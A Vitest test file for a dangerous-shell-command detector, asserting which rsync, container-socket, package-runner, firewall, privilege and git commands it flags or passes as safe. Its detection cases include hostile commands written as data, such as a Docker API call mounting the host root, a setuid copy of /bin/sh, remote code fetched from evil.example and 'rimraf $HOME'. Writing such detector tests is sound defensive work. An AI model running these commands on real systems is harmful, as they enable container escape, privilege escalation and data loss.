import { beforeAll, describe, expect, it } from "vitest";
import { detectDangerousCommand, initializeDetector } from "../../src/detection/index.js";
import { expectAll } from "./verdicts.js";

// Every command is only parsed; hosts, sockets, packages and paths are example names.
function keyOf(command: string): string | null {
  return detectDangerousCommand(command)?.patternKey ?? null;
}

describe("hosts, packages and repositories", () => {
  beforeAll(async () => {
    await initializeDetector();
  });

  it("rsync deleting on another machine, or removing remote sources", () => {
    const remote = [
      "rsync -av --delete ./dist/ deploy@web01:/var/www/html/",
      "rsync -aH --delete-after --remove-source-files /srv/data/ backup:/mnt/data/",
      "rsync -a --delete ./build/ web:/srv/app",
      "rsync -avz --delete-excluded src/ user@host:~/site/",
      "rsync -a --delete-before src/ rsync://mirror.example.com/module/",
      "rsync -e ssh -a --delete ./ prod:/opt/app",
      "rsync -a --delete -e 'ssh -p 2222' public/ host:/var/www",
      "rsync -a --del ./x/ backup::module/x",
      "rsync -av --remove-source-files web01:/var/log/app/ ./logs/",
    ];
    for (const command of remote) expect(keyOf(command), command).toBe("sync-delete-remote");
    expectAll(
      [
        "rsync -avn --delete ./dist/ deploy@web01:/var/www/html/",
        "rsync -av --delete --dry-run ./dist/ deploy@web01:/var/www/html/",
        "rsync -av ./dist/ deploy@web01:/var/www/html/",
        "rsync -avz deploy@web01:/var/log/nginx/ ./logs/web01/",
        "rsync -a --delete ./src/ ./backup/",
        "rsync -av --remove-source-files ./out/ host:/incoming/",
      ],
      "safe",
    );
  });

  it("the container engine API reached without its CLI", () => {
    const api = [
      "curl --unix-socket /var/run/docker.sock -X POST http://localhost/containers/prune",
      "curl --unix-socket /var/run/docker.sock -X DELETE 'http://localhost/containers/db?force=true'",
      "curl -s --unix-socket /var/run/docker.sock -X POST http://localhost/volumes/prune",
      "curl --unix-socket /var/run/docker.sock -XPOST http://localhost/images/prune",
      'curl --unix-socket /var/run/docker.sock -H \'Content-Type: application/json\' -d \'{"Image":"alpine","HostConfig":{"Binds":["/:/host"]}}\' http://localhost/containers/create',
      "curl --unix-socket /var/run/docker.sock -X POST http://localhost/v1.41/containers/web/kill",
      "curl --unix-socket=/run/podman/podman.sock -X POST http://d/v4.0.0/libpod/containers/prune",
      "curl --unix-socket /run/containerd/containerd.sock -X POST http://localhost/",
      "curl --unix-socket /var/run/docker.sock http://localhost/containers/web/archive?path=/etc",
      "curl -X POST http://127.0.0.1:2375/containers/prune",
      "curl -X POST http://10.0.0.5:2375/containers/create -d @spec.json",
      "curl -k -X POST https://node-1:10250/run/kube-system/etcd-0/etcd -d cmd=id",
      "socat - UNIX-CONNECT:/var/run/docker.sock",
      "socat TCP-LISTEN:2375,fork UNIX-CONNECT:/var/run/docker.sock",
      "nc -U /var/run/docker.sock",
    ];
    for (const command of api) expect(keyOf(command), command).toBe("container-api-direct");
    expectAll(
      [
        "curl --unix-socket /var/run/docker.sock http://localhost/containers/json",
        "curl -s --unix-socket /var/run/docker.sock http://localhost/version",
        "curl --unix-socket /var/run/docker.sock http://localhost/images/json",
        "curl http://127.0.0.1:2375/info",
        "curl -X POST --unix-socket /tmp/app.sock http://localhost/api/jobs",
      ],
      "safe",
    );
  });

  it("packages fetched and run in one step, local package files, bulk removals", () => {
    const untrusted = [
      "npm exec --yes -- some-unreviewed-cli@latest --init",
      "npm exec -y unknown-pkg",
      "npx --yes create-something",
      "npx -y @someone/cli",
      "npx github:someone/tool",
      "yarn dlx https://example.com/tool.tgz",
      "pnpm dlx git+https://example.com/tool.git",
      "bunx github:someone/tool",
      "pipx run --spec git+https://example.com/tool.git tool",
      "uvx --from https://example.com/tool.tar.gz tool",
      "uv tool run --index-url https://pypi.example.net/simple tool",
      "go install example.com/unknown/tool@latest && ~/go/bin/tool --setup",
      "go run evil.example/cmd/setup@v0.1.0",
      "gem install ./suspicious-1.0.gem",
      "gem install --local ./pkg.gem",
      "brew install --HEAD --build-from-source ./Formula/tool.rb",
      "brew install https://example.com/tool.rb",
      "npm install ./vendor/pkg-1.0.0.tgz",
    ];
    for (const command of untrusted)
      expect(keyOf(command), command).toBe("package-untrusted-source");
    expectAll(
      [
        "yarn dlx rimraf $HOME",
        "pnpm dlx rimraf ~/",
        "bun x rimraf /etc",
        "pip freeze | xargs pip uninstall -y",
        "pip list --format=freeze | cut -d= -f1 | xargs pip uninstall -y",
        "pip uninstall -y -r <(pip freeze)",
      ],
      "flagged",
    );
    expectAll(
      [
        "npx eslint .",
        "npx prettier --write .",
        "npm exec -- eslint src",
        "yarn dlx --help",
        "pnpm exec vitest run",
        "gem install rails",
        "gem install bundler -v 2.4.0",
        "brew install jq",
        "pip freeze > requirements.txt",
        "pip uninstall -y requests",
        "go install golang.org/x/tools/gopls@latest",
        "go install github.com/golangci/golangci-lint/cmd/golangci-lint@v1.59.0",
        "go install ./cmd/tool",
        "go run ./cmd/server",
        "apt-get remove --purge -s openssh-server",
        "apt-get remove --simulate nginx",
        "apt-get -s purge nginx",
        "apt-get --dry-run autoremove",
        "apt remove --dry-run nginx",
        "apt-get --just-print remove nginx",
        "dnf remove --assumeno nginx",
        "zypper remove --dry-run nginx",
        "apk del --simulate curl",
      ],
      "safe",
    );
  });

  it("firewalls opened to every address", () => {
    const opened = [
      "ufw allow from any to any port 5432",
      "ufw allow from any",
      "ufw allow from 0.0.0.0/0 to any port 80 proto tcp",
      "ufw allow 22/tcp",
      "ufw allow 5432",
      "ufw allow OpenSSH",
      "ufw allow proto tcp to any port 6379",
      "ufw insert 1 allow 27017",
      "ufw allow 1000:65535/tcp",
      "iptables -I INPUT -j ACCEPT",
      "iptables -A INPUT -p tcp --dport 3306 -j ACCEPT",
      "iptables -I INPUT 1 -p tcp -m multiport --dports 22,80 -j ACCEPT",
      "iptables -A INPUT -s 0.0.0.0/0 -p tcp --dport 8080 -j ACCEPT",
      "ip6tables -A INPUT -p tcp --dport 22 -j ACCEPT",
      "nft add rule inet filter input accept",
      "nft add rule inet filter input tcp dport 22 accept",
      "nft insert rule ip filter input tcp dport { 5432, 6379 } accept",
    ];
    for (const command of opened) expect(keyOf(command), command).toBe("firewall-open");
    expectAll(
      [
        "ufw status verbose",
        "ufw allow 8080",
        "ufw allow from 10.0.0.0/8 to any port 5432",
        "ufw --dry-run allow 22",
        "ufw deny 23",
        "iptables -L -n",
        "iptables -A INPUT -p tcp --dport 22 -s 10.0.0.0/8 -j ACCEPT",
        "iptables -A INPUT -i lo -j ACCEPT",
        "iptables -A INPUT -p tcp --dport 443 -j ACCEPT",
        "nft add rule inet filter input ip saddr 10.0.0.0/8 tcp dport 22 accept",
        "nft add rule inet filter input tcp dport 443 accept",
        "nft list ruleset",
      ],
      "safe",
    );
  });

  it("privilege tools other than sudo and su, and setuid installs", () => {
    const privileged = [
      "run0 systemctl daemon-reload",
      "run0 -u root id",
      "pkexec env DISPLAY=:0 gedit /etc/hosts",
      "pkexec systemctl restart nginx",
      "doas apk upgrade",
      "machinectl shell root@",
      "machinectl shell --uid=0 .host",
      "systemd-run --uid=0 -t bash",
      "systemd-run -p User=root --pty sh",
      "systemd-run --shell",
    ];
    for (const command of privileged) expect(keyOf(command), command).not.toBeNull();
    expectAll(
      [
        "install -m 4755 /bin/sh /tmp/rootsh",
        "install -m 4755 ./helper /usr/local/bin/helper",
        "install --mode=4755 build/tool ./bin/tool",
        "install -m6755 a ./opt/a",
        "install -o root -m u+s ./x ./bin/x",
      ],
      "dangerous",
    );
    expectAll(
      [
        "run0 --help",
        "pkexec --version",
        "doas -C /etc/doas.conf",
        "machinectl list",
        "systemd-run --user --scope -p MemoryMax=1G make -j8",
        "sudo -l",
        "sudo -v",
        "install -m 755 build/tool ~/.local/bin/tool",
        "install -d -m 755 ./build/bin",
        "install -D -m 0755 target/release/app ./dist/app",
      ],
      "safe",
    );
  });

  it("git: stashes dropped, worktrees forced away, history rewritten from the root, hooks installed", () => {
    expectAll(
      [
        "git stash drop stash@{0}",
        "git stash drop",
        "git stash clear",
        "git worktree remove --force ../hotfix",
        "git worktree remove -f ../hotfix",
        "git switch --discard-changes main",
        "git switch -f main",
        "git rebase -i --root",
        "git rebase --root",
        "git rebase --root --onto new-base",
        "git prune --expire=now",
        "cp scripts/post-checkout .git/hooks/ && chmod 755 .git/hooks/post-checkout",
        "cp hooks/pre-commit .git/hooks/pre-commit",
        "cp -r tools/hooks/pre-push .git/hooks",
        "ln -s ../../scripts/pre-push .git/hooks/pre-push",
        "install -m 755 hook.sh .git/hooks/post-merge",
        "mv tools/hook .git/hooks/pre-commit",
      ],
      "dangerous",
    );
    expectAll(
      [
        "git stash",
        "git stash list",
        "git stash show -p stash@{0}",
        "git stash push -m wip",
        "git stash pop",
        "git worktree add ../hotfix hotfix",
        "git worktree list",
        "git worktree remove ../hotfix",
        "git switch main",
        "git rebase main",
        "git rebase -i HEAD~3",
        "git rebase --continue",
        "ls .git/hooks",
        "cp .git/hooks/pre-commit.sample /tmp/pre-commit.txt",
      ],
      "safe",
    );
  });
});
